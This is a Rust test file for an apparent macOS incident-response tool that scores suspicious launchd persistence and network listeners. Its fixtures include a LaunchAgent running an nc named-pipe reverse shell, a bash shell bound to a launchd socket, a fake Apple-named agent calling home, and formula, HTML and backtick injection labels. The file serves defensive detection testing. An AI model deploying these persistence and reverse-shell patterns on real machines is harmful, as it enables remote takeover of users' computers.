//! The worked numbers of scenarios.md, with invented content of the same kind.

use super::{launchd, sockets, ssh_plist};
use crate::story::{Lsof, Mac, Netstat, job};
use portolan::model::anomaly::Severity;
use portolan::model::interval::Interval;
use portolan::model::stamp;

const AGENT: &str = "/Users/ana/Library/LaunchAgents/com.apple.spotlightd.plist";
const BOTH: &str = "<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>";

#[test]
fn s1_a_label_of_apple_s_on_a_hidden_program_that_calls_home() {
    let told = Mac::new()
        .plist(AGENT, &job("com.apple.spotlightd", &["/Users/ana/.cache/spotlightd", "1"], BOTH))
        .born(AGENT, ("-rw-r--r--", 501, 20), "2026-04-13T18:11:00Z")
        .loaded(Some(1412), "com.apple.spotlightd")
        .ps(1412, "ana", "1-18:02:11", "/Users/ana/.cache/spotlightd 1")
        .lsof(Lsof::tcp(
            "spotlightd",
            1412,
            0x14,
            "192.0.2.24:49733->203.0.113.88:5633 (ESTABLISHED)",
        ))
        .tcp(Netstat::connected("192.0.2.24.49733", "203.0.113.88.5633", "ESTABLISHED"))
        .told();
    let factors = [
        ("P11", 30),
        ("P07", 5),
        ("persistence", 10),
        ("program-staged", 15),
        ("destination-public", 10),
        ("port-registered", 5),
        ("fresh-within-week", 10),
        ("P14", 10),
    ];
    told.scores(&["P11", "P07"], &factors, 95);
    assert_eq!(told.only_anomaly().severity, Severity::Critical);
    let binding = told.binding(5633);
    let Interval { earliest_start, .. } = binding.interval.unwrap();
    // ps ran between :09 and :20; etime is cut to whole seconds.
    let start = told.process(1412).started.unwrap();
    assert_eq!(stamp(start.hi), "2026-04-13T18:11:10.000000Z");
    assert_eq!(earliest_start, Some(start.lo));
}

#[test]
fn s1_twin_apple_s_own_agent() {
    let path = "/System/Library/LaunchAgents/com.apple.spotlightd.plist";
    let program = "/System/Library/CoreServices/Spotlightd.app/Contents/MacOS/spotlightd";
    Mac::new()
        .plist(path, &job("com.apple.spotlightd", &[program], BOTH))
        .loaded(Some(1412), "com.apple.spotlightd")
        .ps(1412, "ana", "1-18:02:11", program)
        .lsof(Lsof::tcp(
            "spotlightd",
            1412,
            0x14,
            "192.0.2.24:49733->203.0.113.88:443 (ESTABLISHED)",
        ))
        .told()
        .is_quiet();
}

fn netcheck(mac: Mac) -> Mac {
    mac.lsof(launchd("IPv6", 0xa1, "*:2222 (LISTEN)"))
        .lsof(launchd("IPv4", 0xa2, "*:2222 (LISTEN)"))
        .tcp(Netstat::listens("tcp6", "*.2222"))
        .tcp(Netstat::listens("tcp4", "*.2222"))
}

#[test]
fn s2_a_shell_behind_a_socket_of_launchd_s() {
    let inetd = "<key>inetdCompatibility</key><dict><key>Wait</key><false/></dict>";
    let plist = job("org.example.netcheck", &["/bin/bash", "-i"], &(sockets("2222") + inetd));
    let told = netcheck(Mac::new())
        .plist("/Library/LaunchDaemons/org.example.netcheck.plist", &plist)
        .loaded(None, "org.example.netcheck")
        .told();
    let factors = [
        ("P09", 60),
        ("P04", 5),
        ("persistence", 10),
        ("scope-exposed", 10),
        ("port-registered", 5),
        ("declared-and-observed", 5),
        ("P14", 10),
    ];
    told.scores(&["P09", "P04"], &factors, 100);
    let binding = told.binding(2222);
    assert_eq!(binding.families.as_str(), "4,6");
    assert_eq!(binding.service.as_deref(), Some("org.example.netcheck"));
    assert!(!told.only_anomaly().title.contains("rockwell"));
}

#[test]
fn s2b_the_same_sockets_without_a_property_list() {
    let factors = [("P03", 45), ("scope-exposed", 10), ("port-registered", 5), ("P14", 10)];
    netcheck(Mac::new()).told().scores(&["P03"], &factors, 70);
}

#[test]
fn s3a_ssh_moved_by_the_services_file() {
    let services = "ftp 21/tcp\nssh 2022/udp\nssh 2022/tcp # SSH Remote Login Protocol\n";
    let mac = |row: &'static str| {
        Mac::new()
            .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
            .plist("/private/etc/services", services)
            .lsof(launchd("IPv6", 0xa1, row))
            .lsof(launchd("IPv4", 0xa2, row))
            .told()
    };
    let told = mac("*:2022 (LISTEN)");
    let about = told.anomalies(2022);
    assert_eq!((about[0].rules.as_slice(), about[0].score), (["P12", "P05"].as_slice(), 75));
    assert_eq!(about[0].severity, Severity::High);
}

#[test]
fn s5_a_reverse_shell_through_nc() {
    let shell =
        "rm -f /tmp/q; mkfifo /tmp/q; cat /tmp/q | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/q";
    let more = "<key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer>";
    let mac = |state: &str| {
        let peer = format!("192.0.2.24:51822->203.0.113.7:4444 ({state})");
        let line = Lsof { name: &peer, ..Lsof::tcp("nc", 5123, 0xe5, "") }.line();
        Mac::new()
            .plist(
                "/Users/ana/Library/LaunchAgents/org.user.update.plist",
                &job("org.user.update", &["/bin/sh", "-c", shell], more),
            )
            .file(
                "live_response/network/lsof_-nPli.txt",
                format!("{}\n{line}\n{}\n", Lsof::HEAD, launchd("IPv4", 2, "*:22 (LISTEN)").line()),
            )
            .plist("/System/Library/LaunchDaemons/ssh.plist", &ssh_plist())
            .ps(5120, "ana", "01:12:00", &format!("/bin/sh -c {shell}"))
            .ps(5123, "ana", "01:12:00", "nc 203.0.113.7 4444")
            .loaded(Some(5120), "org.user.update")
            .told()
    };
    let told = mac("ESTABLISHED");
    let factors = [
        ("P09", 60),
        ("P08", 5),
        ("persistence", 10),
        ("destination-public", 10),
        ("port-registered", 5),
        ("declared-and-observed", 5),
        ("P14", 10),
    ];
    told.scores(&["P09", "P08"], &factors, 100);
    let attribution = &told.binding(4444).attribution;
    assert!(attribution.contains("its only declared target"), "{attribution}");
    let attempted = mac("SYN_SENT");
    assert_eq!(attempted.only_anomaly().rules, ["P09", "P08"]);
    assert!(attempted.only_anomaly().title.contains("attempted"));
}

#[test]
fn s6_development_servers_are_at_most_information() {
    let chrome = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper --type=utility";
    let told = Mac::new()
        .lsof(Lsof::tcp6("node", 9001, 0x61, "*:3000 (LISTEN)"))
        .lsof(Lsof::tcp("Python", 9002, 0x62, "127.0.0.1:8000 (LISTEN)"))
        .lsof(Lsof::tcp6("node", 9003, 0x63, "[::1]:5173 (LISTEN)"))
        .lsof(Lsof::tcp6("com.docker.backend", 9004, 0x64, "*:5432 (LISTEN)"))
        .lsof(Lsof::tcp(
            "Google\\x20Chrome",
            9005,
            0x65,
            "192.0.2.24:50111->203.0.113.20:443 (ESTABLISHED)",
        ))
        .lsof(Lsof::udp("Google\\x20Chrome", 9005, 0x66, "*:*"))
        .tcp(Netstat::listens("tcp46", "*.3000"))
        .ps(9001, "ana", "12:01", "node /Users/ana/src/web/node_modules/.bin/next dev")
        .ps(9002, "ana", "10:00", "python3 -m http.server 8000 --bind 127.0.0.1")
        .ps(9003, "ana", "08:00", "node /Users/ana/src/ui/node_modules/.bin/vite")
        .ps(
            9004,
            "ana",
            "1-00:00:00",
            "/Applications/Docker.app/Contents/MacOS/com.docker.backend services",
        )
        .ps(9005, "ana", "02:00:00", chrome)
        .told();
    let factors =
        [("P17", 10), ("scope-exposed", 10), ("port-registered", 5), ("dev-server-exposed", -10)];
    told.scores(&["P17"], &factors, 15);
    assert_eq!(told.binding(3000).families.as_str(), "46");
    assert_eq!(told.binding(443).process.as_deref(), Some("Google Chrome Helper"));
}

#[test]
fn s12_labels_full_of_traps_are_only_labels() {
    let labels = ["=1+1", "@SUM(1+1)", "com.apple.\u{202e}gnp.x", "<img src=x>", "a|b`c`"];
    let mut mac = Mac::new();
    for (index, label) in labels.iter().enumerate() {
        let port = 7001 + index;
        let name: &'static str = format!("*:{port} (LISTEN)").leak();
        let plist =
            job(label, &[&format!("/usr/local/bin/inj{index}")], &sockets(&port.to_string()));
        mac = mac.plist(&format!("/Library/LaunchDaemons/inj{index}.plist"), &plist).lsof(launchd(
            "IPv4",
            0x1200 + index as u64,
            name,
        ));
    }
    let told = mac.told();
    for (index, label) in labels.iter().enumerate() {
        let port = 7001 + u16::try_from(index).unwrap();
        assert_eq!(told.binding(port).service.as_deref(), Some(*label));
        let rules = &told.anomalies(port)[0].rules;
        assert_eq!(rules.contains(&"P11"), label.starts_with("com.apple."), "{label} {rules:?}");
        assert!(rules.contains(&"P04"));
    }
}
